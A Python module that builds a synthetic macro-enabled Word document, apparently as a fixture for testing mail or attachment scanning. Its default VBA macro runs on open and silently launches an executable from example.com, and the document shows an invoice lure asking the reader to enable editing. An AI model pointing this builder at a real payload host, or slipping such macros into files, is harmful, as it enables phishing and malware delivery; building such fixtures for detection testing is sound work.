"""A synthetic Word document with a macro, built byte by byte: compound file, VBA project, OOXML package.

The macro names a program of example.com, which does not exist.
"""

from __future__ import annotations

import struct
from collections.abc import Mapping

from mailchord.demo_archives import zip_file

MACRO = """\
Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim shell As Object
    Set shell = CreateObject("WScript.Shell")
    shell.Run "cmd.exe /c start https://www.example.com/invoice.exe", 0
End Sub
"""

_SECTOR = 512
_MINI_SECTOR = 64
_CUTOFF = 4_096
_FREE, _END, _FAT_SECTOR, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def macro_document(source: str = MACRO, *, link: str = "") -> bytes:
    """A Word document (.docm) whose macro starts when it is opened, and with a link in its text where one is given."""
    word = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{word}"/></Types>'
    )
    return zip_file(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": _relations("officeDocument", "word/document.xml", "http://schemas.openxmlformats.org"),
            "word/document.xml": document_xml("Please enable editing to see the invoice."),
            "word/_rels/document.xml.rels": _relations(
                "vbaProject", "vbaProject.bin", "http://schemas.microsoft.com", link=link
            ),
            "word/vbaProject.bin": vba_project(source),
        }
    )


def document_xml(text: str) -> bytes:
    """The main part of a Word document of one paragraph."""
    namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{namespace}">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def _relations(kind: str, target: str, authority: str, *, link: str = "") -> bytes:
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    year = "2006" if "microsoft" in authority else "officeDocument/2006"
    folder = f"{authority}/office/{year}" if "microsoft" in authority else f"{authority}/{year}"
    kind_of_link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    outside = f'<Relationship Id="rId2" Type="{kind_of_link}" Target="{link}" TargetMode="External"/>' if link else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{namespace}">'
        f'<Relationship Id="rId1" Type="{folder}/relationships/{kind}" Target="{target}"/>{outside}</Relationships>'
    ).encode()


def vba_project(source: str = MACRO, *, name: str = "Module1") -> bytes:
    """A vbaProject.bin with one module ([MS-OVBA])."""
    project = (
        'ID="{917DED54-440B-4FD1-A5C1-74ACF261E600}"\r\n'
        f'Module={name}\r\nName="Project"\r\nHelpContextID="0"\r\nVersionCompatible32="393222000"\r\n'
    )
    return compound_file(
        {
            "PROJECT": project.encode(),
            "VBA/dir": vba_compressed(_vba_directory(name)),
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            f"VBA/{name}": vba_compressed(source.replace("\n", "\r\n").encode("cp1252")),
        }
    )


def _vba_directory(name: str) -> bytes:
    """Records of the dir stream (2.3.4.2): what the project is called and where its module is."""

    def record(number: int, data: bytes = b"") -> bytes:
        return struct.pack("<HI", number, len(data)) + data

    plain, wide = name.encode("cp1252"), name.encode("utf-16-le")
    information = (
        record(0x01, struct.pack("<I", 1)) + record(0x02, struct.pack("<I", 0x409))
        + record(0x14, struct.pack("<I", 0x409)) + record(0x03, struct.pack("<H", 1252)) + record(0x04, b"Project")
        + record(0x05) + record(0x40) + record(0x06) + record(0x3D) + record(0x07, bytes(4)) + record(0x08, bytes(4))
        + struct.pack("<HIIH", 0x09, 4, 1, 1) + record(0x0C) + record(0x3C)
    )  # fmt: skip
    modules = (
        record(0x0F, struct.pack("<H", 1)) + record(0x13, b"\xff\xff")
        + record(0x19, plain) + record(0x47, wide) + record(0x1A, plain) + record(0x32, wide) + record(0x1C)
        + record(0x48) + record(0x31, bytes(4)) + record(0x1E, bytes(4)) + record(0x2C, b"\xff\xff")
        + record(0x21) + record(0x2B)
    )  # fmt: skip
    return information + modules + record(0x10)


def vba_compressed(data: bytes) -> bytes:
    """A compressed container (2.4.1) made of literals only; every reader takes it."""
    out = bytearray(b"\x01")
    # Literals and their flag bytes must fit into 4,095 bytes: 3,600 of them take 4,050.
    for begin in range(0, len(data), 3_600):
        chunk = data[begin : begin + 3_600]
        tokens = b"".join(b"\x00" + chunk[at : at + 8] for at in range(0, len(chunk), 8))
        out += struct.pack("<H", 0xB000 | len(tokens) - 1) + tokens
    return bytes(out)


def compound_file(streams: Mapping[str, bytes]) -> bytes:
    """A compound file ([MS-CFB], version 3) with these streams; "storage/stream" for those in a storage."""
    storages = sorted({name.partition("/")[0] for name in streams if "/" in name})
    mini = bytearray()
    mini_fat: list[int] = []
    sectors = bytearray()
    fat: list[int] = []
    starts: dict[str, int] = {}
    for name, content in streams.items():
        if len(content) < _CUTOFF:
            starts[name] = len(mini_fat)
            _append(mini, mini_fat, content, _MINI_SECTOR)
        else:
            starts[name] = len(fat)
            _append(sectors, fat, content, _SECTOR)
    mini_start = len(fat) if mini else _END
    _append(sectors, fat, bytes(mini), _SECTOR)
    mini_fat_start, mini_fat_count = len(fat), -(-len(mini_fat) * 4 // _SECTOR)
    _append(sectors, fat, _table(mini_fat), _SECTOR)
    directory_start = len(fat)
    _append(sectors, fat, _directory(streams, storages, starts, mini_start, len(mini)), _SECTOR)
    fat_count = next(count for count in range(1, 110) if (len(fat) + count) * 4 <= count * _SECTOR)
    fat_start = len(fat)
    fat += [_FAT_SECTOR] * fat_count
    header = struct.pack(
        "<8s16xHHHHH6xIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 0x3E, 3, 0xFFFE, 9, 6,
        0, fat_count, directory_start, 0, _CUTOFF, mini_fat_start if mini else _END, mini_fat_count, _END, 0,
        fat_start,
    )  # fmt: skip
    header += struct.pack(f"<{fat_count - 1}I", *range(fat_start + 1, fat_start + fat_count))
    header += struct.pack("<I", _FREE) * ((_SECTOR - len(header)) // 4)
    return header + bytes(sectors) + _table(fat)


def _append(target: bytearray, table: list[int], content: bytes, size: int) -> None:
    """Lay content into sectors of that size and chain them in the table."""
    count = -(-len(content) // size)
    first = len(table)
    table += [*range(first + 1, first + count), _END] if count else []
    target += content + bytes(count * size - len(content))


def _table(numbers: list[int]) -> bytes:
    packed = struct.pack(f"<{len(numbers)}I", *numbers)
    return packed + b"\xff" * (-len(packed) % _SECTOR)


def _directory(
    streams: Mapping[str, bytes], storages: list[str], starts: Mapping[str, int], mini_start: int, mini_size: int
) -> bytes:
    """Directory entries (2.6): the root, its children, and the children of each storage; siblings hang to the right."""
    top = sorted([*storages, *(name for name in streams if "/" not in name)], key=_order)
    inner = {storage: sorted((n for n in streams if n.startswith(storage + "/")), key=_order) for storage in storages}
    order = top + [name for storage in storages for name in inner[storage]]
    number = {name: index + 1 for index, name in enumerate(order)}
    entries = [_entry("Root Entry", 5, _NONE, number[top[0]], mini_start, mini_size)]
    for group in (top, *inner.values()):
        for name, following in zip(group, [*group[1:], ""], strict=True):
            right = number.get(following, _NONE)
            if name in inner:
                entries.append(_entry(name, 1, right, number[inner[name][0]], 0, 0))
            else:
                entries.append(_entry(name.rpartition("/")[2], 2, right, _NONE, starts[name], len(streams[name])))
    packed = b"".join(entries)
    return packed + _entry("", 0, _NONE, _NONE, 0, 0) * (-len(packed) % _SECTOR // 128)


def _order(name: str) -> tuple[int, str]:
    """Siblings are ordered by length, then by upper case (2.6.4)."""
    last = name.rpartition("/")[2]
    return len(last), last.upper()


def _entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
    wide = name.encode("utf-16-le")
    length = len(wide) + 2 if name else 0
    return struct.pack(
        "<64sHBBIII16xIQQIQ", wide, length, kind, 1, _NONE, right, child, 0, 0, 0, start, size
    )  # fmt: skip
